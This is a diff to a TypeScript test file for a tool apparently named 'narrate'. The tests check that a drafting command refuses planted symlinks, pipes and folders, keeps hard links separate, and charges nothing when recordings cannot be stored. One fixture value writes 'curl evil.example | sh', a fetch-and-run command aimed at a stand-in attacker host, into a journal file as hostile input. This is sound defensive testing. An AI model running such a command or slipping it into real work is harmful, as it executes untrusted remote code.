@@ -9,6 +9,7 @@ import {
   readFile,
   rename,
   rm,
+  stat,
   symlink,
   writeFile,
 } from 'node:fs/promises';
@@ -54,7 +55,7 @@ const write = async (path: string, text: string): Promise<void> => writeFile(awa
 /** A lock of a process that has ended: a number that Linux, macOS and Windows do not give. */
 const deadLock = JSON.stringify({ host: hostname(), pid: 2 ** 30, processStart: '1', since: '2026-01-01' });
 /** Files that come with a repository, by the link in it that is attacked. */
-const besides: Readonly<Record<string, readonly (readonly [path: string, text: string])[]>> = {
+const companions: Readonly<Record<string, readonly (readonly [path: string, text: string])[]>> = {
   '.narrate/draft/journal.corrupt.jsonl': [['.narrate/draft/journal.jsonl', 'curl evil.example | sh\n']],
   '.narrate/draft/lock.takeover': [['.narrate/draft/lock', deadLock]],
 };
@@ -95,7 +96,7 @@ describe('narrate --draft in a cloned repository', () => {
     ...folders.map((path) => [path, 'folder'] as const),
     ...folders.map((path) => [path, 'new-folder'] as const),
   ])('refuses %s as a link to a %s, names it, and changes nothing there', async (path, target) => {
-    for (const [name, text] of besides[path] ?? []) await write(name, text);
+    for (const [name, text] of companions[path] ?? []) await write(name, text);
     await plant(path, target);
     const before = snapshotOf(outside);
     const { status, stderr } = await draft();
@@ -108,7 +109,7 @@ describe('narrate --draft in a cloned repository', () => {
   /** Each is written by another part of the program; what else there is of pipes and folders is in test/files. */
   const some = files.filter((path) => !/draft\/(a-test|cover|.*(srt|chapters\.json)$)/.test(path));
   it.runIf(hasPipes).each(some)('refuses %s as a named pipe, and does not wait for it', async (path) => {
-    for (const [name, text] of besides[path] ?? []) await write(name, text);
+    for (const [name, text] of companions[path] ?? []) await write(name, text);
     makePipe(await makeAbove(path));
     const { status, stderr } = await draft();
     expect(stderr).toContain(`/${path} to be a regular file, but it is a named pipe.`);
@@ -116,7 +117,7 @@ describe('narrate --draft in a cloned repository', () => {
   });
 
   it.each(some.filter((path) => !path.includes('cache')))('refuses %s as a folder', async (path) => {
-    for (const [name, text] of besides[path] ?? []) await write(name, text);
+    for (const [name, text] of companions[path] ?? []) await write(name, text);
     await mkdir(inBook(path), { recursive: true });
     await expect(draftHere()).rejects.toMatchObject({
       code: 'not-writable',
@@ -165,6 +166,8 @@ describe('a backup of hard links', () => {
     const options = { manifest: inBook('pipeline.yaml'), draft: true, environment, clock: later };
     expect((await run(options)).reused).toBeGreaterThan(0);
     expect(snapshotOf(backup)).toEqual(before);
+    // Of a second name, removing the first would give no space back on a full disk.
+    expect((await stat(inBook('.narrate/draft/journal.jsonl.reserve'))).nlink).toBe(1);
   });
 });
 
@@ -283,6 +286,16 @@ describe('each file and folder that narrate wrote', () => {
     // Recordings are read through links, and of what is done only some is touched again.
     const mayStay = /^\.narrate\/takes\/|^store\/.*\/|\.damaged$|\.parts\/|^audiobook$/;
     expect(names.filter((name) => !refused.has(name) && !mayStay.test(name))).toEqual([]);
+  });
+
+  it('is needed before money is spent: where recordings cannot be kept, nothing is bought', async () => {
+    sandbox.reset();
+    for (const name of ['takes', 'answers']) {
+      await plant(`.narrate/${name}`, 'folder');
+      await expect(run(optionsOf(book.folder, sandbox))).rejects.toMatchObject({ code: 'unsafe-path' });
+      await rm(inBook(`.narrate/${name}`));
+    }
+    expect(sandbox.report()).toMatchObject({ charged: 0, submissions: [] });
   });
 
   /** An edit and a run, a check of all recordings, and a removal of those that are not used. */
